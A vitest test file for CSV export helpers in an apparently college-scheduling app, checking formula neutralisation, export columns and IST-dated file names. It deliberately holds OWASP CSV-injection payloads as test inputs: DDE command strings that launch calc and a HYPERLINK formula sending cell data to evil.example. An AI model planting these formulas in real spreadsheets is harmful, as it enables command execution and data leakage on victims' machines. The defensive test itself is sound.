import { describe, expect, it } from 'vitest';
import {
  csvFileName,
  csvTable,
  neutraliseFormula,
  type StudentCsvRow,
  studentCsvColumns,
  type TeacherCsvRow,
  teacherCsvColumns,
} from './csv';
import type { Student, Teacher } from './entities';

describe('neutraliseFormula', () => {
  // OWASP's CSV-injection payloads and the shapes a formula can take after a sign.
  it.each([
    '=SUM(A1)',
    '=1+1',
    '@SUM(1)',
    '+1+1',
    '-1+1',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+91 98765',
    '+-1',
    '-',
    '@cmd',
    '\tx',
    '\t=1+1',
    '\rx',
    '\r=1+1',
  ])('prefixes %j with an apostrophe', (cell) => {
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it('keeps phone numbers and signed numbers as they are', () => {
    expect(neutraliseFormula('+919876543210')).toBe('+919876543210');
    expect(neutraliseFormula('-2')).toBe('-2');
  });

  it('leaves ordinary cells alone', () => {
    expect(neutraliseFormula('Ada = genius')).toBe('Ada = genius');
    expect(neutraliseFormula('')).toBe('');
  });
});

describe('teacher export', () => {
  const teacher: TeacherCsvRow = {
    name: 'Grace Hopper',
    email: 'grace@college.edu',
    subject: 'Compilers',
    department: 'Computer Science',
    isApproved: true,
    createdAt: '2025-03-03T18:45:00.000Z',
    averageRating: 4.25,
    stats: { totalStudents: 12, totalSessions: 30 },
    profile: { phone: '+919876543210', experience: 7 },
  };

  it('has the spec columns and IST dates', () => {
    expect(csvTable(teacherCsvColumns, [teacher])).toEqual([
      [
        'Name',
        'Email',
        'Subject',
        'Department',
        'Status',
        'Joined Date',
        'Phone',
        'Experience',
        'Total Students',
        'Total Sessions',
        'Rating',
      ],
      [
        'Grace Hopper',
        'grace@college.edu',
        'Compilers',
        'Computer Science',
        'Active',
        '2025-03-04',
        '+919876543210',
        '7',
        '12',
        '30',
        '4.3',
      ],
    ]);
  });

  it('fills gaps of a pending teacher without ratings', () => {
    const sparse: TeacherCsvRow = { name: '=HYPERLINK("x")', email: 'p@college.edu', isApproved: false };
    expect(csvTable(teacherCsvColumns, [sparse])[1]).toEqual([
      `'=HYPERLINK("x")`,
      'p@college.edu',
      '',
      '',
      'Pending',
      '',
      '',
      '',
      '0',
      '0',
      'N/A',
    ]);
  });
});

describe('student export', () => {
  it('has the spec columns', () => {
    const student: StudentCsvRow = {
      name: 'Ada',
      email: 'ada@college.edu',
      isApproved: false,
      createdAt: '2025-01-10T06:00:00.000Z',
      stats: { totalAppointments: 4 },
      profile: { course: 'B.Sc', year: 2, studentId: 'S-12' },
    };
    expect(csvTable(studentCsvColumns, [student])).toEqual([
      ['Name', 'Email', 'Status', 'Joined Date', 'Course', 'Year', 'Student ID', 'Total Appointments'],
      ['Ada', 'ada@college.edu', 'Pending', '2025-01-10', 'B.Sc', '2', 'S-12', '4'],
    ]);
  });
});

it('takes whole entities as rows', () => {
  // Compiles only while the full entity types still fit the export rows.
  const asTeacherRow = (teacher: Teacher): TeacherCsvRow => teacher;
  const asStudentRow = (student: Student): StudentCsvRow => student;
  expect(typeof asTeacherRow).toBe('function');
  expect(typeof asStudentRow).toBe('function');
});

describe('csvFileName', () => {
  it('dates the file by the IST day', () => {
    expect(csvFileName('teachers', new Date('2025-03-03T09:00:00.000Z'))).toBe('teachers-2025-03-03.csv');
    expect(csvFileName('students', new Date('2025-03-03T18:30:00.000Z'))).toBe('students-2025-03-04.csv');
  });
});
